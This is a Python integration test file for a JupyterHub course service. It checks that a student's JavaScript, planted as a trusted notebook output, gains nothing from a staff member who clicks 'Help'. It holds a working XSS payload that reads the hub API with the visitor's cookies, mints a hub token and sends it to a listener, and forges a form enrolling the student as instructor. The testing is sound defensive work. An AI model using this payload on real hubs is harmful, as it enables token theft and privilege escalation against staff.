"""A student plants JavaScript in their own notebook and waits for a staff member to
click "Help" on the live class view. Whatever origin the student's JupyterLab runs on,
their script runs there: if it is the hub's origin, it acts with the staff member's
cookies (reads the hub API, makes a hub token, posts the service's staff forms).

The script is a trusted HTML output: the student saves their notebook through their own
server's contents API with the cells marked trusted (as JupyterLab does after running
them), so their server signs it, and JupyterLab runs its `<script>` for anyone who opens
it there. A collector on loopback, standing for the student's own listener, records
what the script achieved.
"""

from __future__ import annotations

import json
import os
import re
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import pytest

from tests.helpers import hubproc
from tests.helpers.browser import CHROMIUM, SHOTS, chromium
from tests.helpers.browserless import login, start_server

pytestmark = [pytest.mark.integration, pytest.mark.root]

USERS = {"nina": "nina-pass-123", "ivan": "ivan-pass-456"}
COURSE = "algebra"
NOTEBOOK = "lab1.ipynb"
SERVICE = "/services/coursehub"

# Runs in whoever opens the notebook in the student's JupyterLab. It reports to the
# collector: that it ran (and where), then each thing it got with the visitor's cookies.
PAYLOAD = """
(async () => {
  const report = (what, value) => fetch(COLLECTOR + "/" + what,
    {method: "POST", mode: "no-cors", body: String(value)});
  report("ran", location.origin);
  const frame = (url) => new Promise((resolve) => {
    const f = document.createElement("iframe");
    f.style.display = "none";
    f.onload = () => resolve(f);
    f.src = url;
    document.body.appendChild(f);
  });
  try {  // the hub's API as the visitor, and a hub token of theirs
    const page = await (await fetch("/hub/token")).text();
    const xsrf = page.match(/xsrf_token: "([^"]+)"/)[1];
    const headers = {"X-XSRFToken": xsrf, "Content-Type": "application/json"};
    const asked = await fetch("/hub/api/user", {headers});
    if (!asked.ok) throw new Error("/hub/api/user: " + asked.status);
    const who = await asked.json();
    report("hub-user", who.name);
    const made = await fetch("/hub/api/users/" + who.name + "/tokens",
      {method: "POST", headers, body: JSON.stringify({note: "help", expires_in: 600})});
    if (!made.ok) throw new Error("tokens: " + made.status);
    report("hub-token", (await made.json()).token);
  } catch (e) { report("hub-refused", e); }
  try {  // a staff form of the service as the visitor: enrol the student as instructor
    const f = await frame(SERVICE + "/course/" + COURSE + "/staff");
    const d = f.contentDocument;
    const form = d.createElement("form");
    form.method = "post";
    form.action = SERVICE + "/course/" + COURSE + "/staff/enrol";
    const fields = {_xsrf: d.querySelector("meta[name=coursehub-xsrf]").content,
                    usernames: STUDENT, role: "instructor"};
    for (const [name, value] of Object.entries(fields)) {
      const input = d.createElement("input");
      input.name = name; input.value = value; form.appendChild(input);
    }
    d.body.appendChild(form);
    f.onload = () => report("service-form", f.contentDocument.body.innerText.slice(0, 200));
    form.submit();
  } catch (e) { report("service-refused", e); }
  try {  // the same form posted across from this origin, into a frame, with the cookies
    const target = document.createElement("iframe");
    target.name = "across";
    target.style.display = "none";
    document.body.appendChild(target);
    const form = document.createElement("form");
    form.method = "post";
    form.target = "across";
    form.action = HUB + SERVICE + "/course/" + COURSE + "/staff/enrol";
    for (const [name, value] of Object.entries({usernames: STUDENT, role: "instructor"})) {
      const input = document.createElement("input");
      input.name = name; input.value = value; form.appendChild(input);
    }
    document.body.appendChild(form);
    form.submit();
    report("cross-site-form", "sent");
  } catch (e) { report("cross-site-form-refused", e); }
})();
"""


class Collector:
    """The student's listener: records every POST as (path, body)."""

    def __init__(self) -> None:
        self.reports: list[tuple[str, str]] = []
        seen = self.reports

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:  # noqa: N802 - http.server's name
                length = int(self.headers.get("content-length") or 0)
                seen.append((self.path.strip("/"), self.rfile.read(length).decode()))
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def got(self, what: str) -> list[str]:
        return [body for path, body in list(self.reports) if path == what]

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def collector() -> Iterator[Collector]:
    found = Collector()
    yield found
    found.close()


def _notebook(script: str) -> dict:
    """A notebook whose one cell has an HTML output with `script`, marked trusted as
    JupyterLab marks the cells it ran, so the student's server signs it on save."""
    cell = {
        "cell_type": "code",
        "id": "c1",
        "metadata": {"trusted": True},
        "source": "from IPython.display import HTML; HTML(page)",
        "outputs": [
            {
                "output_type": "execute_result",
                "execution_count": 1,
                "metadata": {},
                "data": {
                    "text/plain": ["<IPython.core.display.HTML object>"],
                    "text/html": [f"<b>my work</b><script>{script}</script>"],
                },
            }
        ],
        "execution_count": 1,
    }
    meta = {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}}
    return {"cells": [cell], "metadata": meta, "nbformat": 4, "nbformat_minor": 5}


def _site(start_hub: Callable[..., hubproc.RunningHub], repo: Path, label: str, **site: object):
    staff = {"ivan": "instructor"}
    hub = start_hub(
        label,
        outside_tmp=True,
        users=USERS,
        roles=staff,
        courses={COURSE: hubproc.Course(repo, ("nina",), staff)},
        **site,
    )
    for name, password in USERS.items():  # hub users exist from their first sign-in
        login(hub.url, name, password)
    return hub


@pytest.fixture(scope="module")
def repo(make_course_repo: Callable[..., Path]) -> Path:
    if not os.path.exists(CHROMIUM):
        pytest.skip(f"{CHROMIUM} is not installed (./dev setup installs Debian's chromium)")
    blank = _notebook("")
    blank["cells"][0]["outputs"] = []
    return make_course_repo({NOTEBOOK: json.dumps(blank), "course.yaml": "title: Lab\n"})


@pytest.fixture(scope="module")
def hub(start_hub: Callable[..., hubproc.RunningHub], repo: Path) -> hubproc.RunningHub:
    return _site(start_hub, repo, "staff-origin")


def _via_proxy(hub: hubproc.RunningHub, url: str) -> tuple[str, dict[str, str]]:
    """`url` sent to the proxy's own address with its host in a Host header (Python does
    not resolve *.localhost as Chromium does)."""
    parts = httpx.URL(url)
    direct = parts.copy_with(host="127.0.0.1", port=httpx.URL(hub.url).port)
    return str(direct), {"Host": parts.netloc.decode()}


def plant(hub: hubproc.RunningHub, collector: Collector) -> str:
    """As nina: open the course notebook (her server starts, her copy is made), then
    save the hostile version of it through her own server. Returns her lab's URL."""
    nina = login(hub.url, "nina", USERS["nina"])
    link = f"{hub.url}{SERVICE}/open/{COURSE}/{NOTEBOOK}"

    def open_link() -> str:  # follows redirects while they stay on the hub's host
        response = nina.get(link)
        while response.is_redirect:
            target = str(response.url.join(response.headers["location"]))
            if httpx.URL(target).host != httpx.URL(hub.url).host:
                return target
            response = nina.get(target)
        return str(response.url)

    lab = open_link()
    if "/lab/tree/" not in lab:
        events = start_server(nina, "nina", server=COURSE)
        assert events and events[-1].get("ready"), f"{events}\n{hub.log_tail()}"
        lab = open_link()
    assert "/lab/tree/" in lab, lab
    script = (
        f"const COLLECTOR = {json.dumps(collector.url)}; const SERVICE = {json.dumps(SERVICE)};"
        f" const COURSE = {json.dumps(COURSE)}; const STUDENT = 'nina';"
        f" const HUB = {json.dumps(hub.url)};" + PAYLOAD
    )
    contents, headers = _via_proxy(hub, f"{lab.split('/lab/tree/')[0]}/api/contents/{NOTEBOOK}")
    saved = httpx.put(
        contents,
        headers={**headers, "Authorization": f"token {hub.user_token('nina')}"},
        json={"type": "notebook", "format": "json", "content": _notebook(script)},
        timeout=30,
    )
    assert saved.status_code == 200, saved.text[-300:]
    return lab


def _sign_in(page, url: str, name: str) -> None:  # noqa: ANN001
    page.goto(url)
    page.fill("#username_input", name)
    page.fill("#password_input", USERS[name])
    page.click("#login_submit")


def help_the_student(hub: hubproc.RunningHub, shot: str) -> tuple[str, str]:
    """As ivan, in Chromium: the live dashboard of the notebook, then Help on nina's
    card. Returns the URL and text of the page Help opened, once anything the student
    planted has had time to run."""
    with chromium() as browser:
        context = browser.new_context(viewport={"width": 1300, "height": 900})
        page = context.new_page()
        _sign_in(page, f"{hub.url}{SERVICE}/course/{COURSE}/live/nb/{NOTEBOOK}", "ivan")
        card = page.locator("article.live-card[data-user='nina']")
        try:
            card.wait_for(timeout=60_000)
            with context.expect_page(timeout=60_000) as opened:
                card.locator("footer").get_by_text(re.compile("help", re.I)).first.click()
        finally:
            page.screenshot(path=str(SHOTS / f"{shot}-dashboard.png"), full_page=True)
        helped = opened.value
        try:
            helped.wait_for_load_state("load", timeout=120_000)
            if "/oauth2/authorize" in helped.url:
                # The hub asks before a shared server learns who visits; the helper agrees.
                helped.get_by_role("button", name="Authorize").click()
                helped.wait_for_load_state("load", timeout=120_000)
            helped.wait_for_timeout(2000)
            if "/lab/" in helped.url:
                # The student's JupyterLab: its output shows, and whatever runs, runs.
                helped.wait_for_selector(".jp-OutputArea-output", timeout=120_000)
                helped.wait_for_timeout(8000)
            else:
                # The read-only view: the student's work, rendered in its sandboxed frame.
                frame = helped.frame_locator("iframe.notebook-view")
                frame.locator("text=my work").first.wait_for(timeout=60_000)
                helped.wait_for_timeout(3000)
        finally:
            helped.screenshot(path=str(SHOTS / f"{shot}.png"), full_page=True)
        return helped.url, helped.content()


def members(hub: hubproc.RunningHub) -> str:
    done = hub.cli("course", "show", COURSE)
    assert done.returncode == 0, done.stdout + done.stderr
    return done.stdout


def assert_nothing_gained(hub: hubproc.RunningHub, collector: Collector) -> None:
    """Nothing the student's script tried worked with the helper's sign-in."""
    assert collector.got("hub-user") == [], collector.reports
    assert collector.got("hub-token") == [], collector.reports
    roles = members(hub)
    assert not any("nina" in line and "instructor" in line for line in roles.splitlines()), roles
    assert not any(origin == hub.url for origin in collector.got("ran")), collector.reports


def test_help_runs_no_student_script_with_the_staff_members_cookies(
    hub: hubproc.RunningHub, collector: Collector
) -> None:
    plant(hub, collector)
    url, _ = help_the_student(hub, "staff-origin-help")
    assert_nothing_gained(hub, collector)
    # Without subdomains, Help is the read-only view: nothing of the student's runs.
    assert "/live/view/nina/" in url and collector.got("ran") == [], (url, collector.reports)


@pytest.fixture(scope="module")
def subdomain_hub(start_hub: Callable[..., hubproc.RunningHub], repo: Path) -> hubproc.RunningHub:
    # Chromium resolves *.localhost to loopback: nina's servers are at nina.localhost.
    return _site(
        start_hub,
        repo,
        "staff-subdomains",
        public_host="localhost",
        site_yaml="user_subdomains: true\n",
    )


def test_with_subdomains_help_opens_the_lab_on_the_students_own_origin(
    subdomain_hub: hubproc.RunningHub, collector: Collector
) -> None:
    hub = subdomain_hub
    lab = plant(hub, collector)
    assert httpx.URL(lab).host == "nina.localhost", lab
    url, _ = help_the_student(hub, "staff-origin-help-subdomain")
    # Help opened nina's live JupyterLab, and her script ran, on her own origin...
    assert httpx.URL(url).host == "nina.localhost" and "/lab/tree/" in url, url
    port = httpx.URL(hub.url).port
    assert collector.got("ran") == [f"http://nina.localhost:{port}"], collector.reports
    # ...where it got nothing of the helper's: no hub API, no token, no staff form, and
    # its form posted across to the service (with the helper's same-site cookie) refused.
    assert_nothing_gained(hub, collector)
    assert collector.got("cross-site-form") != [], collector.reports
